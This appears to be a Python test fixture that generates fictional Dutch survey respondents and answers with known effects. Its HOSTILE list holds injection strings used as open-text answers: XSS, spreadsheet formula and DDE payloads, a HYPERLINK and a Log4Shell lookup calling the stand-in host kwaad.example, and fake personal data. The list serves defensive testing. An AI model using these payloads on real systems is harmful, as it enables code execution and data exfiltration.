"""Invented respondents of the example's regions, and what they answered.

Everybody is drawn from a seeded generator: the same names of regions, waves and groups give the
same people on every platform. `lean` is the truth behind the answers: by how much a region, a role,
a wave and a question move their mean, so that a test can look whether results find it.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import date, timedelta

from aoj.settings import RegionSettings
from aoj.settings.questionnaires import GroupWave
from aoj.survey.questionnaire import Asked, AskedQuestion

SIZES = {"beleid": 0, "uitvoering": 150, "ouders": 300, "jongeren": 120}
BELEID = {
    "fabelstad": 6,
    "fabelkust": 14,
    "dromerdelta": 11,
    "mijmerstreek": 12,
    "nergensland": 13,
    "stille-hoek": 7,
    "wazerstreek": 9,
    "fabelstad-en-ommeland": 10,
}
"""How many answer the list for beleid, in each wave."""
REGION_LEAN = {
    "fabelkust": 0.35,
    "dromerdelta": -0.3,
    "fabelstad": 0.1,
    "nergensland": -0.15,
    "wazerstreek": 0.0,
    "mijmerstreek": 0.2,
    "stille-hoek": -0.05,
    "fabelstad-en-ommeland": 0.0,
}
ROLE_LEAN = {"jeugdhulp": -0.55, "vo": -0.1, "samenwerkingsverband": 0.3, "gemeente": 0.0}
WAVE_LEAN = {"fabelkust": {"2022": -0.5, "2024": -0.2, "2026": 0.2}}
"""How a region moved over the waves; the others stood still."""
NAMES = ("Zwaantje Quispel", "Gijsbert Vuurdoorn", "Fenna Oosterlicht", "Ömer Kwikstaart")
MAILS = ("zwaantje.quispel@fabelpost.example", "g.vuurdoorn@school.example")
HOSTILE = (
    "<script>alert('Quispel')</script> betere afspraken",
    '=HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    "Vraag het Zwaantje Quispel van de Meester Fictieschool, 06-12345678",
    "mail g.vuurdoorn@school.example of bel 030 1234567",
    "Mijn BSN is 111222333, postcode 1234 AB, IBAN NL91ABNA0417164300",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'Regel een\nRegel twee; met puntkomma, komma en "aanhalingstekens"',
    "{{ 7*7 }} ${jndi:ldap://kwaad.example} ‮omgekeerd",
)
PLAIN = (
    "Meer tijd voor overleg.",
    "Een vaste contactpersoon op elke school zou helpen.",
    "Eerder aan tafel, niet pas als het misgaat.",
    "Duidelijke afspraken over wie betaalt.",
    "Minder formulieren.",
    "Elkaar beter kennen.",
)
OFFSETS = {1: (), 2: (0.0,), 3: (-0.5, 0.5), 5: (-1.3, -0.5, 0.25, 1.2)}
"""Where one level ends and the next begins, on the scale of the lean."""


@dataclass(frozen=True)
class Person:
    """One answer: what a tool knows of it, and per question what was given.

    A value is a code, a tuple of options, a text, `dont_know`, `not_applicable`, empty (not
    answered) or None (not shown).
    """

    number: int
    token: str
    day: str
    """ISO day of completion; empty for an answer that was not completed."""
    role: str
    gemeente: str
    name: str
    mail: str
    values: Mapping[str, str | tuple[str, ...] | None] = field(default_factory=dict)


def people(asked: Asked, settings: RegionSettings, said: GroupWave, year: int) -> list[Person]:
    """Return who answered a list: those of the wave, a few late, unfinished or twice."""
    size = SIZES[asked.group] or BELEID[asked.region]
    rng = random.Random(f"{asked.region}/{asked.wave}/{asked.group}")
    found = list(_drawn(asked, said, size, rng))
    if asked.group in ("uitvoering", "ouders"):
        found += [_unfinished(one, number) for number, one in enumerate(found[:5], start=size + 1)]
        found += [_late(one, said.closes, size + 6 + n, rng) for n, one in enumerate(found[5:8])]
    if asked.group == "uitvoering":
        found += [_again(found[10], size + 9), _again(found[11], size + 10)]
    return found


def lean(asked: Asked, question: AskedQuestion, role: str) -> float:
    """Return how far the mean answer to a question lies from the middle, here and then."""
    own = _number(f"{asked.group}/{question.key}") * 1.6 - 0.6
    sign = -1 if question.reversed else 1
    moved = WAVE_LEAN.get(asked.region, {}).get(asked.wave, 0.0)
    return own + sign * (REGION_LEAN[asked.region] + ROLE_LEAN.get(role, 0.0) + moved)


def _drawn(asked: Asked, said: GroupWave, size: int, rng: random.Random) -> Iterator[Person]:
    first = date.fromisoformat(said.opens)
    days = (date.fromisoformat(said.closes) - first).days
    roles, gemeenten = list(asked.roles), list(asked.gemeenten)
    weights = [1 / (place + 1.5) for place in range(len(gemeenten))]
    for number in range(1, size + 1):
        role = rng.choice(roles)
        gemeente = rng.choices(gemeenten, weights)[0] if rng.random() < 0.97 else ""
        day = first + timedelta(days=int(days * rng.random() ** 1.5))
        yield Person(
            number,
            hashlib.sha256(f"{asked.region}{asked.wave}{asked.group}{number}".encode()).hexdigest()[
                :15
            ],
            day.isoformat(),
            role,
            gemeente,
            NAMES[number % len(NAMES)],
            MAILS[number % len(MAILS)],
            _values(asked, role, number, rng),
        )


def _values(
    asked: Asked, role: str, number: int, rng: random.Random
) -> dict[str, str | tuple[str, ...] | None]:
    mood = rng.gauss(0, 0.75)
    values: dict[str, str | tuple[str, ...] | None] = {}
    for question in asked.questions:
        condition = question.only_if
        if condition and values.get(condition.question) not in condition.answers:
            values[question.key] = None
            continue
        match question.kind:
            case "scale":
                values[question.key] = _level(asked, question, role, mood, rng)
            case "multiple":
                values[question.key] = _options(question, rng)
            case "open":
                values[question.key] = _text(number, rng)
            case "consent":
                values[question.key] = rng.choices(["ja", "nee", ""], [5, 3, 2])[0]
    return values


def _level(
    asked: Asked, question: AskedQuestion, role: str, mood: float, rng: random.Random
) -> str:
    assert question.scale is not None
    chance = rng.random()
    if chance < 0.03:
        return ""
    if chance < 0.08 and "weet_niet" in question.scale.outside:
        return "dont_know"
    if chance < 0.1 and "nvt" in question.scale.outside:
        return "not_applicable"
    codes = list(question.scale.levels)
    sign = -1 if question.reversed else 1
    drawn = lean(asked, question, role) + sign * mood + rng.gauss(0, 0.7)
    return codes[sum(drawn > offset for offset in OFFSETS[len(codes)])]


def _options(question: AskedQuestion, rng: random.Random) -> tuple[str, ...]:
    options = list(question.options)
    if rng.random() < 0.08:
        return ("geen",) if "geen" in options else ()
    own = [option for option in options if option != "geen"]
    wanted = rng.choice((1, 2, 3))
    chosen = set(rng.sample(own, min(wanted, len(own))))
    return tuple(option for option in options if option in chosen)


def _text(number: int, rng: random.Random) -> str:
    if number % 11 == 0:
        return HOSTILE[number // 11 % len(HOSTILE)]
    return rng.choice(PLAIN) if rng.random() < 0.25 else ""


def _unfinished(one: Person, number: int) -> Person:
    values = {key: value for place, (key, value) in enumerate(one.values.items()) if place < 3}
    blank = {
        key: values.get(key, "" if value is not None else None) for key, value in one.values.items()
    }
    return Person(
        number, f"{one.token[:-1]}z", "", one.role, one.gemeente, one.name, one.mail, blank
    )


def _late(one: Person, closes: str, number: int, rng: random.Random) -> Person:
    day = date.fromisoformat(closes) + timedelta(days=rng.choice((2, 5, 9)))
    token = f"{one.token[:-1]}y"
    return Person(
        number, token, day.isoformat(), one.role, one.gemeente, one.name, one.mail, one.values
    )


def _again(one: Person, number: int) -> Person:
    """Return who answered twice with one token, differently the second time."""
    values = {k: ("1" if v in ("4", "5") else v) for k, v in one.values.items()}
    return Person(number, one.token, one.day, one.role, one.gemeente, one.name, one.mail, values)


def _number(text: str) -> float:
    """Return a number from 0 to 1 that belongs to a text."""
    return int(hashlib.sha256(text.encode("utf-8")).hexdigest()[:8], 16) / 0xFFFFFFFF
